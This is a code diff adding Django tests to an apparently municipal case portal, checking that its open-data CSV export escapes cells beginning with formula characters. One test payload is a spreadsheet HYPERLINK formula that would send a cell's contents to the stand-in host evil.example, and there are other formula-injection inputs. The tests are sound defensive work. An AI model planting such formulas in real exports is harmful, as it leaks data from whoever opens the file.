@@ -11,7 +11,7 @@ from django.urls import reverse
 from ventanilla.cases import services as case_services
 from ventanilla.cases.tests.factories import make_council, make_department, make_staff
 from ventanilla.cases.workflow import Status
-from ventanilla.portal import services
+from ventanilla.portal import exports, services
 from ventanilla.portal.tests.factories import (
     make_private_category,
     make_public_category,
@@ -270,3 +270,31 @@ def test_a_renamed_department_keeps_its_public_history_under_its_new_name(client
     html = client.get(reverse("portal:record", args=[case.reference])).content.decode()
     history = html[html.index('id="case-history"') :]
     assert "Movilidad" in history and "Vías Públicas" not in html
+
+
+@pytest.mark.parametrize("start", ["=", "+", "-"])  # "@…" is redacted as a handle anyway
+def test_open_data_csv_cells_never_start_a_formula(client, council, start):
+    category = make_public_category(council=council, code="alumbrado")
+    case = open_case(category=category, latitude=40.4169, longitude=-3.7033)
+    formula = f'{start}1+HYPERLINK("http://evil.example/?"&A1,"Pulse aquí")'
+    services.update_public_summary(case=case, text=formula)
+    lines = client.get(reverse("portal:records_csv")).content.decode().split("\n")
+    rows = list(csv.DictReader(io.StringIO("\n".join(lines[1:]))))
+    assert rows[0]["summary"].startswith(f"'{start}1+HYPERLINK")
+    assert rows[0]["longitude"].startswith("-3.70")  # numbers stay numbers
+
+
+@pytest.mark.parametrize(
+    ("value", "cell"),
+    [
+        ("\tHYPERLINK(1)", "'\tHYPERLINK(1)"),
+        ("\r=1+1", "'\r=1+1"),
+        ("=1+1", "'=1+1"),
+        ("@SUM(A1)", "'@SUM(A1)"),
+        ("Farola", "Farola"),
+        (-3.7, -3.7),
+        (None, ""),
+    ],
+)
+def test_csv_cells_are_neutralised(value, cell):
+    assert exports.csv_cell(value) == cell
